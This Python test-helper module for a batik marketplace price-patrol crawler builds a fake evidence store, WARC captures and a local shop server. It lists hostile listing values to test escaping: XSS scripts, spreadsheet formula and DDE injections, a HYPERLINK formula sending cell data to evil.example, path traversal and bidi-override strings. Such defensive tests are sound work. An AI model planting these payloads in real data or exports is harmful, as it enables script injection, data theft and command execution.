"""A patrol database of our own for evidence tests and the benchmark: listings, flags, two crawls
of history, page records, and the WARC captures they were "parsed" from (written by
crawler.archive, so the records are exactly what a crawl would have left)."""

from __future__ import annotations

import html
import json
from dataclasses import dataclass
from pathlib import Path

from crawler.archive import Capture, Exchange, WarcArchive
from crawler.items import Assessment, Flag, Listing, PageRecord, ScoredListing
from crawler.store import EvidenceStore

LONG = "Batik " + "A" * 10_000
HOSTILE_TITLES = [
    '<script>alert("xss")</script><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1 kain full-width",
    "＋６２ batik",
    "－1 songket",
    "＠SUM(A1) tenun",
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "Kain \u202etulis batik\u202c asli \u2066x\u2069",
    LONG,
    "Batik \x00\x01\x07 kontrol",
    "批发 中国 batik 蜡染布 made in china",
    '"quoted", comma; semicolon',
    "Kain </bdi></td></tr></table><h1>palsu</h1>",
    "{{ 7*7 }} {% raw %}jinja{% endraw %}",
]
HOSTILE_SELLERS = [
    "<b onmouseover=alert(1)>Toko</b>",
    "=cmd|'/c calc'!A1",
    "\u202eokoT",
    "../" * 50,
]
HOSTILE_URLS = [
    "javascript:alert(document.cookie)",
    'https://www.tokopedia.com/x/"><script>alert(1)</script>',
    '=HYPERLINK("http://evil")',
    "https://www.tokopedia.com/../../etc/passwd",
    "data:text/html,<script>alert(1)</script>",
    "https://www.tokopedia.com/" + "x" * 10_000,
    "https://www.tokopedia.com/toko/\u202ekain",
]


@dataclass
class Filled:
    db: Path
    captures_dir: Path
    listings: list[Listing]
    captures: dict[str, Capture]  # by capture_id
    bodies: dict[str, bytes]  # capture_id -> the body "parsed"


def page_body(listings: list[Listing]) -> bytes:
    cards = "".join(
        f'<div class="card" data-id="{html.escape(x.listing_id)}">{html.escape(x.title)}</div>'
        for x in listings
    )
    return f"<!doctype html><html><body>{cards}</body></html>".encode()


def _listing(i: int, *, hostile: bool, price: int, sold: int) -> Listing:
    market = ("tokopedia", "shopee", "lazada", "blibli")[i % 4]
    title = f"Kain Batik Tulis Pekalongan motif {i}"
    seller = f"Toko Batik {i % 17}"
    url = f"https://www.{market}.example/toko{i % 17}/kain-batik-{i}"
    if hostile:
        title = HOSTILE_TITLES[i % len(HOSTILE_TITLES)]
        seller = HOSTILE_SELLERS[i % len(HOSTILE_SELLERS)]
        url = HOSTILE_URLS[i % len(HOSTILE_URLS)]
    return Listing(
        marketplace=market,
        listing_id=str(1000 + i),
        url=url,
        title=title,
        price_idr=price,
        currency="IDR",
        sold_count=sold,
        seller_id=f"s{i % 17}",
        seller_name=seller,
        seller_location="Kota Pekalongan" if i % 3 else "Luar Negeri",
        is_cross_border=bool(i % 3 == 0),
        price_text=f"Rp{price:,}".replace(",", "."),
        sold_text=f"{sold} terjual",
    )


def _assessment(listing: Listing, i: int) -> Assessment:
    flags = []
    if i % 2 == 0:
        flags.append(
            Flag(
                listing.marketplace,
                listing.listing_id,
                "BELOW_FLOOR",
                "medium",
                0.6,
                f"Harga {listing.price_idr} di bawah batas bawah kain batik tulis Rp300.000",
                "Price below the batik tulis floor of Rp300,000",
                evidence={"floor": 300000},
                legal_basis="Permendag 31/2023 Pasal 13",
                category="batik_tulis_kain",
            )
        )
    if i % 3 == 0:
        flags.append(
            Flag(
                listing.marketplace,
                listing.listing_id,
                "CB_UNDER_USD100",
                "high",
                0.9,
                "Penjual lintas batas, harga di bawah USD 100",
                "Cross-border seller under USD 100",
                legal_basis="Permendag 31/2023 Pasal 19(2)",
                category="batik_tulis_kain",
            )
        )
    return Assessment(
        listing.marketplace,
        listing.listing_id,
        category="batik_tulis_kain",
        risk=min(100, 20 * len(flags) + i % 30),
        flags=flags,
    )


def fill_store(
    db: Path,
    captures_dir: Path,
    n: int = 12,
    *,
    hostile: bool = False,
    per_page: int = 5,
    max_bytes: int = 100 * 1024 * 1024,
) -> Filled:
    """n listings over two crawls; every `per_page` listings share one search-page capture."""
    store = EvidenceStore(db)
    captures: dict[str, Capture] = {}
    bodies: dict[str, bytes] = {}
    final: list[Listing] = []
    with WarcArchive(captures_dir, max_bytes=max_bytes) as archive:
        for round_no, (day, discount) in enumerate((("2026-11-01", 0), ("2026-11-15", 5_000))):
            crawl = store.start_crawl(["tokopedia", "shopee", "lazada", "blibli"], ["batik"])
            scored, pages = [], []
            for start in range(0, n, per_page):
                group = [
                    _listing(
                        i,
                        hostile=hostile,
                        price=150_000 + 1_000 * i - discount,
                        sold=10 + i + round_no,
                    )
                    for i in range(start, min(n, start + per_page))
                ]
                body = page_body(group)
                url = f"https://www.tokopedia.example/search?q=batik&page={start // per_page + 1}"
                capture = archive.write(
                    Exchange(
                        url=url,
                        status=200,
                        body=body,
                        response_headers=[("Content-Type", "text/html; charset=utf-8")],
                        request_headers=[("User-Agent", "Patroli-test")],
                        fetched_at=f"{day}T0{round_no}:00:{start % 60:02d}.000000Z",
                        kind="search",
                        crawl_id=crawl,
                    )
                )
                store.save_capture(capture)
                captures[capture.capture_id] = capture
                bodies[capture.capture_id] = body
                for offset, listing in enumerate(group):
                    listing.capture_id = capture.capture_id
                    listing.captured_at = capture.fetched_at
                    scored.append(ScoredListing(listing, _assessment(listing, start + offset)))
                pages.append(
                    PageRecord(
                        marketplace=group[0].marketplace,
                        url=url,
                        outcome="ok",
                        status=200,
                        keyword="batik",
                        page=start // per_page + 1,
                        listings_found=len(group),
                        bytes=len(body),
                        fetched_at=capture.fetched_at,
                        capture_id=capture.capture_id,
                    )
                )
                if round_no == 1:
                    final.extend(group)
            store.save_batch(crawl, scored, pages)
            store.finish_crawl(crawl)
    store.close()
    return Filled(db, captures_dir, final, captures, bodies)


def manifest_of(zip_path: Path) -> dict:
    import zipfile

    with zipfile.ZipFile(zip_path) as zf:
        return json.loads(zf.read("manifest.json"))


class ShopServer:
    """A tiny marketplace on 127.0.0.1 (ephemeral port), in a thread: routes are path+query ->
    (status, headers, body). Bodies are gzip-encoded on the wire when `gzip_paths` says so."""

    def __init__(self, routes: dict[str, tuple[int, dict[str, str], bytes]] | None = None):
        import gzip as _gzip
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        self.routes = dict(routes or {})
        self.gzip_paths: set[str] = set()
        self.wire: dict[str, bytes] = {}  # path -> bytes actually sent
        self.hits: list[str] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server's name
                server.hits.append(self.path)
                status, headers, body = server.routes.get(
                    self.path, (404, {"Content-Type": "text/html"}, b"<h1>404</h1>")
                )
                if self.path in server.gzip_paths:
                    body = _gzip.compress(body, mtime=0)
                    headers = {**headers, "Content-Encoding": "gzip"}
                server.wire[self.path] = body
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        self.base_url = f"http://127.0.0.1:{self.port}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def __enter__(self) -> ShopServer:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(timeout=5)


def card(listing_id: str, title: str, price: str, seller: str = "Toko Uji") -> str:
    return (
        f'<div class="card" data-id="{html.escape(listing_id)}" data-price="{html.escape(price)}"'
        f' data-seller="{html.escape(seller)}">{html.escape(title)}</div>'
    )


def shop_page(cards: list[str]) -> bytes:
    return ("<!doctype html><html><body>" + "".join(cards) + "</body></html>").encode()


def run_cli(args: list[str], *, env: dict[str, str] | None = None, timeout: int = 120):
    """Run `python -m MODULE ...` in a fresh process: Scrapy's reactor runs once per process."""
    import os
    import subprocess
    import sys

    root = Path(__file__).resolve().parent.parent
    full_env = {**os.environ, "PYTHONPATH": str(root), **(env or {})}
    return subprocess.run(
        [sys.executable, "-m", *args],
        cwd=root,
        env=full_env,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def fast_settings(base_url: str) -> list[str]:
    """-s options for a quick crawl of a ShopServer with the test spider."""
    return [
        "-s",
        "SPIDER_MODULES=tests.evidence_spiders",
        "-s",
        "PATROLI_BASE_URLS=" + json.dumps({"tokopedia": base_url}),
        "-s",
        "DOWNLOAD_DELAY=0",
        "-s",
        "AUTOTHROTTLE_ENABLED=False",
        "-s",
        "LOG_LEVEL=WARNING",
        "-s",
        "PATROLI_MATCH=False",
    ]
